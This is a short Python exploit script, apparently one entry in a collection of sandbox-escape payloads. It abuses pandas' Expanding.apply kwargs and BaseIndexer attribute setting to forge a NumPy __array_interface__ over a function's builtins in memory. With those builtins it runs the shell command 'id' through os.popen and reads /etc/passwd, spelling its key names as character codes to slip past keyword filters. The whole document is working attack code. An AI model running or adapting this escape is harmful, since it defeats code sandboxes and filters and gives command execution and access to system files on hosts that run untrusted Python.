# source: pandas Expanding.apply kwargs=; pandas.api.indexers.BaseIndexer.__init__ (setattr(self, key, value) for kwargs)
# family: run-time-key dict via expanding().apply(kwargs=) into BaseIndexer(**kw), which setattrs each key
# goal: object array at a function's address+24 (func_builtins, address from repr()) -> builtins -> __import__('os').popen('id'), open('/etc/passwd')
import numpy as np
import pandas as pd

made = []


def collect(window, **kw):
    made.append(pd.api.indexers.BaseIndexer(**kw))
    return 0.0


def probe():
    return 1


def w(*codes):
    return "".join(map(chr, codes))


u = chr(95) * 2
key = u + "array" + chr(95) + "interface" + u
addr = int(repr(probe).split()[-1].rstrip(">"), 16)
spec = {"shape": (1,), "typestr": "|O8", "data": (addr + 24, False), "version": 3}
opts = {}
opts[key] = spec
pd.Series([1.0, 2.0]).expanding().apply(collect, raw=True, kwargs=opts)
arr = np.asarray(made[0])
bi = arr[0]
print(type(bi), len(bi))
imp = bi[u + "import" + u]
ga = bi[w(103, 101, 116, 97, 116, 116, 114)]
osm = imp(w(111, 115))
print(osm)
print(ga(osm, w(112, 111, 112, 101, 110))(w(105, 100)).read())
print(bi[w(111, 112, 101, 110)](w(47, 101, 116, 99, 47, 112, 97, 115, 115, 119, 100)).read()[:120])
